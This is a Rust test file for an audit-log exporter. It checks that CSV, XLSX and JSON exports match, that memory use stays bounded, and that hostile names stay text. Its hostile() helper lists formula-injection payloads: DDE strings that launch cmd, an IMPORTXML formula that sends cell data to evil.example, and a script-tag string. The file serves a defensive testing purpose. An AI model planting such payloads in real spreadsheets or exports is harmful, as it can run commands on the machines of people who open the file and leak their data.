//! Exports as files: each form is read back by somebody else's reader, and says what the log says.

use super::{Office, lines};
use crate::world::{Kind, administrator, event, on_both, person, project};
use auditgraph::access::Viewer;
use auditgraph::activity::Activity;
use auditgraph::event::directory::{DirectoryIssue, Entry};
use auditgraph::event::export::Question;
use auditgraph::event::{Change, Container, ContainerKind, IssueRef, NewEvent, Object, System};
use auditgraph::export::{Reader, Within};
use auditgraph::store::Batch;
use calamine::{Data, Reader as _, Xlsx};
use serde_json::{Value, json};
use std::io::Cursor;

on_both!(
    c28_every_form_has_the_same_columns,
    hostile_cells_stay_text,
    no_more_than_a_page_is_held,
);

const HEADER: [&str; 9] = [
    "Date",
    "Author",
    "Target",
    "Action",
    "Project",
    "Old",
    "New",
    "ID/Issue Key",
    "Issue Type",
];

/// The rows of a file of comma-separated values, the header among them.
pub(crate) fn rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let row = |row: Result<csv::StringRecord, csv::Error>| {
        row.unwrap().iter().map(str::to_owned).collect()
    };
    reader.records().map(row).collect()
}

/// The sheets of a workbook by name, with their rows; fails where there is a formula.
pub(crate) fn sheets(bytes: &[u8]) -> Vec<(String, Vec<Vec<String>>)> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let cell = |cell: &Data| match cell {
        Data::Empty => String::new(),
        Data::String(text) => text.clone(),
        Data::Float(number) => number.to_string(),
        other => panic!("{other:?}"),
    };
    let mut sheets = Vec::new();
    for name in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&name).unwrap();
        assert!(formulas.is_empty(), "{name} has formulas");
        let range = workbook.worksheet_range(&name).unwrap();
        let rows = range.rows().map(|row| row.iter().map(cell).collect());
        sheets.push((name, rows.collect()));
    }
    sheets
}

/// An office with four events, of which one has all that there can be and one next to nothing.
async fn with_four_events(kind: Kind) -> Office {
    let office = Office::new(kind).await;
    let world = &office.world;
    let site = Container::new(ContainerKind::Site, "", "acme.atlassian.net");
    let place = Container {
        id: None,
        key: Some("WEB".to_owned()),
        name: Some("Website".to_owned()),
        parent: Some(Box::new(site)),
        ..Container::new(ContainerKind::Project, "acme.atlassian.net", "")
    };
    let issue = DirectoryIssue {
        scope: "acme.atlassian.net".to_owned(),
        id: "10001".to_owned(),
        key: Some("WEB-1".to_owned()),
        kind: Some("Service Request".to_owned()),
        project: Some(place.clone()),
        ..DirectoryIssue::default()
    };
    let batch = Batch {
        part: "issues",
        entries: vec![Entry::Issue(Box::new(issue))],
        ..Batch::default()
    };
    let learned = world
        .feed
        .append("jira", System::JiraCloud, batch, world.clock.now());
    learned.await.unwrap();
    let change = |field: &str, from: Option<&str>, to: Option<&str>| Change {
        field: field.to_owned(),
        from: from.map(str::to_owned),
        to: to.map(str::to_owned),
    };
    let updated = NewEvent {
        system: System::JiraCloud,
        action: "jira:issue_updated".to_owned(),
        container: Some(place.clone()),
        issue: Some(IssueRef {
            id: Some("10001".to_owned()),
            key: Some("WEB-1".to_owned()),
        }),
        changes: vec![
            change("status", Some("To Do"), Some("Done, \"really\"")),
            change("resolution", None, Some("Fixed")),
        ],
        ..event("updated", "2026-11-20T10:00:00.25Z")
    };
    let version = NewEvent {
        system: System::JiraCloud,
        action: "jira:version_released".to_owned(),
        container: Some(place),
        target: Some(Object {
            kind: "version".to_owned(),
            id: Some("3".to_owned()),
            name: Some("v3 – \u{fc}ber".to_owned()),
            ..Object::default()
        }),
        ..event("version", "2026-11-20T09:00:00Z")
    };
    let unknown = NewEvent {
        actor: None,
        target: None,
        container: None,
        action: "unheard_of".to_owned(),
        ..event("unknown", "2026-11-20T08:00:00Z")
    };
    let person = NewEvent {
        target: Some(Object {
            kind: "user".to_owned(),
            id: Some("557058:bo".to_owned()),
            user: Some(person("557058:bo", "Bo Ek")),
            ..Object::default()
        }),
        action: "user_added_to_group".to_owned(),
        container: None,
        ..event("person", "2026-11-20T07:00:00Z")
    };
    world.append(vec![updated, version, unknown, person]).await;
    office
}

/// What a file says of them, on the clocks of Berlin; `labels` are those of their actions.
fn told(labels: &[Value]) -> [[&str; 9]; 4] {
    let label = |place: usize| labels[place]["action"]["label"].as_str().unwrap();
    [
        [
            "2026-11-20T11:00:00.250+01:00",
            "Ann Lee",
            "issue: WEB-1",
            label(0),
            "Website",
            "status: To Do",
            "status: Done, \"really\"\nresolution: Fixed",
            "WEB-1",
            "Service Request",
        ],
        [
            "2026-11-20T10:00:00+01:00",
            "Ann Lee",
            "version: v3 – \u{fc}ber",
            label(1),
            "Website",
            "",
            "",
            "3",
            "",
        ],
        [
            "2026-11-20T09:00:00+01:00",
            "",
            "",
            label(2),
            "",
            "",
            "",
            "",
            "",
        ],
        [
            "2026-11-20T08:00:00+01:00",
            "Ann Lee",
            "user: Bo Ek",
            label(3),
            "",
            "",
            "",
            "557058:bo",
            "",
        ],
    ]
}

async fn c28_every_form_has_the_same_columns(kind: Kind) {
    let office = with_four_events(kind).await;
    let labels = office
        .world
        .data("{ events { nodes { action { label } } } }")
        .await;
    let expected = told(labels["events"]["nodes"].as_array().unwrap());
    let with = |format: &str| json!({"format": format, "timeZone": "Europe/Berlin"});
    let (_, csv) = office.made(administrator(), with("CSV")).await;
    assert!(
        csv.starts_with(b"Date,Author,"),
        "no mark of the encoding before it"
    );
    let csv = rows(&csv);
    assert_eq!(csv[0], HEADER);
    assert_eq!(csv[1..], expected);
    let (_, xlsx) = office.made(administrator(), with("XLSX")).await;
    let sheets = sheets(&xlsx);
    assert_eq!(sheets.len(), 1);
    assert_eq!(sheets[0].0, "Events");
    assert_eq!(sheets[0].1, csv);

    let keys = [
        "date",
        "author",
        "target",
        "action",
        "project",
        "old",
        "new",
        "id",
        "issueType",
    ];
    let object = |row: &[&str; 9]| -> Value {
        let cells = keys.iter().zip(row).map(|(key, cell)| {
            let cell = (!cell.is_empty()).then_some(*cell);
            ((*key).to_owned(), json!(cell))
        });
        Value::Object(cells.collect())
    };
    let objects: Vec<Value> = expected.iter().map(object).collect();
    let (_, ndjson) = office.made(administrator(), with("NDJSON")).await;
    assert_eq!(lines(&ndjson), objects);
    let (_, list) = office.made(administrator(), with("JSON")).await;
    assert_eq!(
        serde_json::from_slice::<Value>(&list).unwrap(),
        json!(objects)
    );
    // Without a zone, times are in UTC; without rows, a list is a list.
    let (_, utc) = office.made(administrator(), json!({"format": "CSV"})).await;
    assert_eq!(rows(&utc)[1][0], "2026-11-20T10:00:00.250Z");
    let none = json!({"format": "JSON", "filter": {"countries": ["ZZ"]}});
    let (_, none) = office.made(administrator(), none).await;
    assert_eq!(serde_json::from_slice::<Value>(&none).unwrap(), json!([]));
}

/// A hundred names that a spreadsheet would rather carry out than show.
fn hostile() -> Vec<String> {
    let payloads = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example\",\"click\")",
        "IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
        "SUM(1+1)*cmd|' /C calc'!A0",
        "2+5+cmd|'/C notepad'!'A1'",
        "@SUM(1)",
        "\"quoted\", and \"more\"",
        "<script>alert(1)</script>&amp;",
    ];
    let begins = ["=", "+", "-", "@", "\t", "\r", "\n=", "=-+@", "'=", " ="];
    let names = begins.iter().flat_map(|begin| {
        payloads
            .iter()
            .map(move |payload| format!("{begin}{payload}"))
    });
    names.collect()
}

async fn hostile_cells_stay_text(kind: Kind) {
    let office = Office::new(kind).await;
    let names = hostile();
    assert_eq!(names.len(), 100);
    let deed = |(number, name): (usize, &String)| NewEvent {
        actor: Some(person(&format!("557058:{number}"), name)),
        container: Some(project("WEB")),
        changes: vec![Change {
            field: name.clone(),
            from: Some(name.clone()),
            to: None,
        }],
        ..event(&format!("{number:03}"), "2026-11-20T10:00:00Z")
    };
    let mut deeds: Vec<NewEvent> = names.iter().enumerate().map(deed).collect();
    let long = "=".repeat(40_000);
    deeds.push(NewEvent {
        actor: Some(person("557058:long", "Ann\u{0}\u{1}\u{b}Lee\u{FFFF}")),
        changes: vec![Change {
            field: "f".to_owned(),
            from: Some(long.clone()),
            to: None,
        }],
        ..event("long", "2026-11-20T10:00:00Z")
    });
    office.world.append(deeds).await;
    let order = json!({"field": "RECORDED", "direction": "ASC"});
    let with = |format: &str| json!({"format": format, "eventOrder": order});

    let (_, csv) = office.made(administrator(), with("CSV")).await;
    let csv = rows(&csv);
    let (_, xlsx) = office.made(administrator(), with("XLSX")).await;
    let workbook = sheets(&xlsx);
    let workbook = &workbook[0].1;
    assert_eq!((csv.len(), workbook.len()), (102, 102));
    let dangerous = ['=', '+', '-', '@', '\t', '\r', '\n'];
    for cell in csv.iter().flatten() {
        assert!(!cell.starts_with(dangerous), "{cell:?}");
    }
    let (_, ndjson) = office.made(administrator(), with("NDJSON")).await;
    let plain = lines(&ndjson);
    for (number, name) in names.iter().enumerate() {
        assert_eq!(plain[number]["author"], *name, "programs get what there is");
        let told = &csv[number + 1][1];
        if name.starts_with(dangerous) {
            assert_eq!(*told, format!("'{name}"));
        } else {
            assert_eq!(told, name);
        }
        // A workbook knows what is a text, so nothing need stand before it; its line ends are those of XML.
        let lines = name.replace("\r\n", "\n").replace('\r', "\n");
        assert_eq!(workbook[number + 1][1], lines);
        assert_eq!(workbook[number + 1][5], format!("{lines}: {lines}"));
    }
    assert_eq!(plain[100]["old"], format!("f: {long}"));
    for table in [&csv, workbook] {
        let cut = &table[101][5];
        assert_eq!(cut.encode_utf16().count(), 32_767);
        assert!(cut.ends_with("… (cut)"), "{}", &cut[cut.len() - 20..]);
    }
    assert_eq!(workbook[101][1], "Ann\u{FFFD}\u{FFFD}\u{FFFD}Lee\u{FFFD}");
}

async fn no_more_than_a_page_is_held(kind: Kind) {
    let office = Office::busy(kind).await;
    let world = &office.world;
    let within = Within {
        store: world.store().clone(),
        activity: Activity::new(world.store().clone(), world.clock.clone()),
        limits: auditgraph::app::counted(&world.config),
        viewer: Viewer::server(),
        now: world.clock.now(),
        until: world.store().newest().await.unwrap(),
        page: 7,
    };
    let everything = Question::default();
    let reader = Reader::open(within.clone(), &everything, None);
    let mut reader = reader.await.unwrap();
    assert_eq!(reader.expected().await.unwrap(), Some(30));
    let (mut all, mut marks) = (Vec::new(), Vec::new());
    while let Some(page) = reader.next().await.unwrap() {
        assert!((1..=7).contains(&page.rows.len()));
        assert!(
            page.rows
                .iter()
                .all(|row| row.len() == reader.headings().len())
        );
        all.extend(page.rows);
        marks.push((all.len(), page.mark.unwrap()));
        // What comes meanwhile is not in it.
        let late = event(&format!("late-{}", all.len()), "2026-11-01T10:00:00Z");
        world.append(vec![late]).await;
    }
    assert!(reader.next().await.unwrap().is_none());
    assert_eq!(all.len(), 30);
    // Each mark leads to what comes behind it.
    for (read, mark) in marks {
        let rest = Reader::open(within.clone(), &everything, Some(&mark));
        let (mut rest, mut found) = (rest.await.unwrap(), Vec::new());
        while let Some(page) = rest.next().await.unwrap() {
            found.extend(page.rows);
        }
        assert_eq!(found, all[read..]);
    }
}
